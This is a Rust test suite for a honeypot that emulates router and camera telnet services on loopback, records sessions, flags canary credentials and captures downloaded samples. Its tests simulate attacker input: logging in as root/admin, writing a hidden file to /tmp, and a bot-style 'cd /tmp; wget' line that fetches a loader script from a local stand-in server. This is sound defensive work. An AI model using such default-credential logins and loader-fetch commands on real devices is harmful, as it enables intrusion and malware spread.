//! The honeypot whole: real sockets on loopback, a store in memory.

use crate::config::{HoneypotConfig, Listener};
use crate::downloads;
use crate::{Honeypot, HoneypotError, Ports};
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use ukai_driver::{FetchRequest, SessionOrigin};
use ukai_egress::{Egress, EgressConfig};
use ukai_model::{
    CloseReason, Event, EventKind, FetchOutcome, Flow, PeerText, SessionId, Sha256, Timestamp,
    Transport,
};
use ukai_persona::Canary;
use ukai_store::{EventQuery, Store, StoreConfig};

const SECRET: [u8; 32] = [7; 32];

fn store() -> Store {
    Store::in_memory(StoreConfig::default())
}

fn egress() -> Arc<Egress> {
    let config = EgressConfig {
        allow: vec!["127.0.0.0/8".parse().expect("a prefix")],
        ..EgressConfig::default()
    };
    Arc::new(Egress::new(config, Vec::new()).expect("an egress"))
}

fn listener(address: &str, persona: &str, ports: Ports) -> Listener {
    let addresses = vec![address.parse().expect("an address")];
    Listener { addresses, persona: persona.into(), ports }
}

async fn start(listeners: Vec<Listener>, store: &Store) -> Honeypot {
    let config = HoneypotConfig { listeners, ..HoneypotConfig::default() };
    Honeypot::start(config, store.clone(), egress(), SECRET, None).await.expect("it starts")
}

async fn events(store: &Store) -> Vec<Event> {
    let query = EventQuery { limit: Some(500), ..EventQuery::default() };
    let mut events = store.events(query).await.expect("events").items;
    events.reverse();
    events
}

/// Stops, writes everything, and gives what was recorded, oldest first.
async fn finish(honeypot: Honeypot, store: &Store) -> Vec<Event> {
    honeypot.shutdown().await;
    store.submit(Vec::new()).await.expect("written");
    store.close().await.expect("closed");
    events(store).await
}

fn names(events: &[Event]) -> Vec<&'static str> {
    events.iter().map(|event| event.kind.name()).collect()
}

/// Reads until `end` was heard.
async fn hear(stream: &mut TcpStream, end: &str) -> String {
    let mut heard = Vec::new();
    let mut bytes = [0; 4096];
    loop {
        let text = String::from_utf8_lossy(&heard).into_owned();
        if text.contains(end) {
            return text;
        }
        let read = tokio::time::timeout(Duration::from_secs(10), stream.read(&mut bytes)).await;
        match read {
            Ok(Ok(count)) if count > 0 => heard.extend_from_slice(&bytes[..count]),
            other => panic!("{other:?} instead of {end:?} after {text:?}"),
        }
    }
}

async fn log_in(address: SocketAddr) -> TcpStream {
    let mut stream = TcpStream::connect(address).await.expect("a connection");
    hear(&mut stream, "login: ").await;
    stream.write_all(b"root\r\n").await.expect("written");
    hear(&mut stream, "assword: ").await;
    stream.write_all(b"admin\r\n").await.expect("written");
    hear(&mut stream, "# ").await;
    stream
}

#[tokio::test]
async fn a_payload_becomes_events_with_the_address_as_the_peer_saw_it() {
    let store = store();
    let ports = Ports { raw: vec![0], ..Ports::default() };
    let honeypot = start(vec![listener("127.0.0.2", "camera-arm", ports)], &store).await;
    let service = honeypot.services()[0].clone();
    assert_eq!((service.protocol, service.persona.as_str()), ("raw", "camera-arm"));
    let mut peer = TcpStream::connect(service.address).await.expect("a connection");
    peer.write_all(b"\x00\x01hello there").await.expect("written");
    peer.shutdown().await.expect("shut down");
    let mut rest = Vec::new();
    let _ = peer.read_to_end(&mut rest).await;
    let from = peer.local_addr().expect("an address");
    let events = finish(honeypot, &store).await;
    assert_eq!(names(&events).first(), Some(&"session.open"));
    assert!(names(&events).contains(&"payload.first"), "{:?}", names(&events));
    assert_eq!(names(&events).last(), Some(&"session.close"));
    for event in &events {
        assert_eq!(event.flow, Some(Flow::new(Transport::Tcp, from, service.address)));
    }
}

#[tokio::test]
async fn what_is_in_the_way_is_told_all_at_once_and_nothing_starts() {
    let taken = TcpListener::bind("127.0.0.1:0").await.expect("a free port");
    let taken = taken.local_addr().map(|address| (taken, address)).expect("an address");
    let free = TcpListener::bind("127.0.0.1:0").await.expect("a free port");
    let free_port = free.local_addr().expect("an address").port();
    drop(free);
    let ports = Ports { raw: vec![free_port, taken.1.port()], ..Ports::default() };
    let foreign = Ports { raw: vec![9], ..Ports::default() };
    let listeners = vec![
        listener("127.0.0.1", "router-mips", ports),
        listener("192.0.2.1", "router-mips", foreign),
    ];
    let config = HoneypotConfig { listeners, ..HoneypotConfig::default() };
    let Err(error) = Honeypot::start(config, store(), egress(), SECRET, None).await else {
        panic!("two addresses are in the way");
    };
    assert!(matches!(error, HoneypotError::Bind(_)));
    let text = error.to_string();
    assert!(text.contains(&format!("address {}: in use", taken.1)), "{text}");
    assert!(text.contains("address 192.0.2.1:9: not an address of this machine"), "{text}");
    let tried = TcpStream::connect(("127.0.0.1", free_port)).await;
    assert!(tried.is_err(), "the free port was not kept");
}

#[tokio::test]
async fn each_address_behind_a_wildcard_is_a_host_of_its_own() {
    let store = store();
    let ports = Ports { telnet: vec![0], ..Ports::default() };
    let honeypot = start(vec![listener("0.0.0.0", "router-mips", ports)], &store).await;
    let port = honeypot.services()[0].address.port();
    let mut prompts = Vec::new();
    for last in [1, 5, 6, 1] {
        let target = SocketAddr::new(IpAddr::from([127, 0, 0, last]), port);
        let mut peer = TcpStream::connect(target).await.expect("a connection");
        prompts.push(hear(&mut peer, "login: ").await);
    }
    assert_eq!(prompts[0], prompts[3]);
    assert!(prompts[0] != prompts[1] || prompts[1] != prompts[2], "{prompts:?}");
    finish(honeypot, &store).await;
}

#[tokio::test]
async fn a_canary_is_reported_whichever_host_it_is_used_on_and_the_peer_sees_nothing_of_it() {
    let store = store();
    let canary = |user: &str, password: Option<&str>, accepted| Canary {
        user: user.into(),
        password: password.map(str::to_owned),
        note: "in the wiki".into(),
        accepted,
    };
    let telnet = || Ports { telnet: vec![0], ..Ports::default() };
    let config = HoneypotConfig {
        listeners: vec![
            listener("127.0.0.1", "router-mips", telnet()),
            listener("0.0.0.0", "router-mips", telnet()),
        ],
        canaries: vec![
            canary("backup-svc", None, None),
            canary("root", Some("admin"), None),
            canary("root", Some("laid-out"), Some(true)),
        ],
        ..HoneypotConfig::default()
    };
    let honeypot =
        Honeypot::start(config, store.clone(), egress(), SECRET, None).await.expect("starts");
    for service in honeypot.services().to_vec() {
        let address = SocketAddr::new([127, 0, 0, 1].into(), service.address.port());
        let mut stream = TcpStream::connect(address).await.expect("a connection");
        for (user, password, answer) in
            [("backup-svc", "x", "incorrect"), ("root", "laid-out", "# ")]
        {
            hear(&mut stream, "login: ").await;
            stream.write_all(format!("{user}\r\n").as_bytes()).await.expect("written");
            hear(&mut stream, "assword: ").await;
            stream.write_all(format!("{password}\r\n").as_bytes()).await.expect("written");
            let answer = if answer == "# " { hear(&mut stream, "# ").await } else { String::new() };
            assert!(!answer.contains("wiki"), "{answer}");
        }
        log_in(address).await;
    }
    let events = finish(honeypot, &store).await;
    let told: Vec<String> = events
        .iter()
        .filter_map(|event| match &event.kind {
            EventKind::LoginAttempt { success, .. } => Some(format!("attempt {success}")),
            EventKind::LoginCanary { user, note, .. } => Some(format!("{} {note}", user.escaped())),
            _ => None,
        })
        .collect();
    let one_host = [
        "attempt false",
        "backup-svc in the wiki",
        "attempt true",
        "root in the wiki",
        "attempt true",
        "root in the wiki",
    ];
    assert_eq!(told, [one_host, one_host].concat());
}

#[tokio::test]
async fn an_attacker_finds_its_files_again() {
    let store = store();
    let ports = Ports { telnet: vec![0], ..Ports::default() };
    let honeypot = start(vec![listener("127.0.0.1", "router-mips", ports)], &store).await;
    let address = honeypot.services()[0].address;
    let mut peer = log_in(address).await;
    peer.write_all(b"echo dropped-by-me > /tmp/.x; echo do''ne\r\n").await.expect("written");
    hear(&mut peer, "done").await;
    drop(peer);
    let mut peer = log_in(address).await;
    peer.write_all(b"cat /tmp/.x\r\n").await.expect("written");
    hear(&mut peer, "dropped-by-me").await;
    drop(peer);
    let events = finish(honeypot, &store).await;
    let typed = |event: &&Event| matches!(&event.kind, EventKind::CommandInput { .. });
    assert_eq!(events.iter().filter(typed).count(), 2);
    // Both sessions can be replayed.
    let sessions: Vec<SessionId> = events
        .iter()
        .filter(|event| matches!(event.kind, EventKind::SessionClose { recorded: true, .. }))
        .filter_map(|event| event.session)
        .collect();
    assert_eq!(sessions.len(), 2);
    let recording = store.recording(sessions[0]).await.expect("read").expect("kept");
    assert!(String::from_utf8_lossy(&recording).contains("\"version\":2"));
}

#[tokio::test]
async fn a_stop_records_the_sessions_it_ends() {
    let store = store();
    let ports = Ports { telnet: vec![0], ..Ports::default() };
    let honeypot = start(vec![listener("127.0.0.1", "router-mips", ports)], &store).await;
    let mut peer = TcpStream::connect(honeypot.services()[0].address).await.expect("connected");
    hear(&mut peer, "login: ").await;
    assert_eq!(honeypot.sessions(), 1);
    let events = finish(honeypot, &store).await;
    let last = events.last().expect("events").kind.clone();
    assert!(
        matches!(last, EventKind::SessionClose { reason: CloseReason::Shutdown, .. }),
        "{last:?}"
    );
}

/// A web server that answers everything with `body`, slowly, and counts.
async fn web_server(body: &'static str) -> (SocketAddr, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.expect("a free port");
    let address = listener.local_addr().expect("an address");
    let count = Arc::new(AtomicUsize::new(0));
    let counter = Arc::clone(&count);
    tokio::spawn(async move {
        loop {
            let Ok((mut stream, _)) = listener.accept().await else { return };
            let counter = Arc::clone(&counter);
            tokio::spawn(async move {
                let mut request = [0; 4096];
                let _ = stream.read(&mut request).await;
                counter.fetch_add(1, Ordering::Relaxed);
                tokio::time::sleep(Duration::from_millis(200)).await;
                let head = format!(
                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                    body.len()
                );
                let _ = stream.write_all(head.as_bytes()).await;
            });
        }
    });
    (address, count)
}

fn request(url: &str, tool: &'static str) -> FetchRequest {
    let now = Timestamp::from_secs(1_700_000_000);
    let any = "192.0.2.1:1".parse().expect("an address");
    let origin = SessionOrigin {
        sensor: "test".parse().expect("a name"),
        session: SessionId::new(now, 1),
        flow: Flow::new(Transport::Tcp, any, any),
        persona: "router-mips".into(),
    };
    FetchRequest { origin, url: PeerText::from(url), tool }
}

#[tokio::test]
async fn a_file_is_fetched_once_for_many_and_kept_before_they_hear_of_it() {
    let (address, count) = web_server("#!/bin/sh\necho a loader\n").await;
    let (store, egress) = (store(), egress());
    let url = format!("http://{address}/x.sh");
    let asked = (0..10)
        .map(|_| downloads::fetch(Arc::clone(&egress), store.clone(), request(&url, "wget")));
    let replies = futures_util::future::join_all(asked).await;
    let name = Sha256::of(b"#!/bin/sh\necho a loader\n");
    for reply in &replies {
        assert_eq!(reply.fetched.outcome, FetchOutcome::Complete, "{:?}", reply.error);
        assert_eq!(reply.fetched.sha256, Some(name));
    }
    assert!(store.sample(&name).await.expect("read").is_some());
    assert_eq!(count.load(Ordering::Relaxed), 1);
}

#[tokio::test]
async fn a_bot_that_hangs_up_after_its_line_still_gives_its_sample() {
    let (address, _) = web_server("#!/bin/sh\necho another loader\n").await;
    let store = store();
    let ports = Ports { telnet: vec![0], ..Ports::default() };
    let honeypot = start(vec![listener("127.0.0.1", "router-mips", ports)], &store).await;
    let mut peer = log_in(honeypot.services()[0].address).await;
    let line = format!("cd /tmp; wget http://{address}/x.sh\r\n");
    peer.write_all(line.as_bytes()).await.expect("written");
    drop(peer);
    let name = Sha256::of(b"#!/bin/sh\necho another loader\n");
    for _ in 0..100 {
        if store.sample(&name).await.expect("read").is_some() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    tokio::time::sleep(Duration::from_millis(50)).await;
    let events = finish(honeypot, &store).await;
    for kind in ["download.request", "download.result", "sample.captured"] {
        assert!(names(&events).contains(&kind), "{kind}: {:?}", names(&events));
    }
}

#[tokio::test]
async fn a_url_that_is_none_costs_nothing() {
    let long = format!("http://192.0.2.1/{}", "a".repeat(10_000));
    let mut odd = request("", "wget");
    odd.url = PeerText::from(&b"http://192.0.2.1/\xff"[..]);
    for request in [request(&long, "wget"), odd] {
        let reply = downloads::fetch(egress(), store(), request).await;
        assert_eq!(reply.fetched.outcome, FetchOutcome::BadUrl);
    }
}
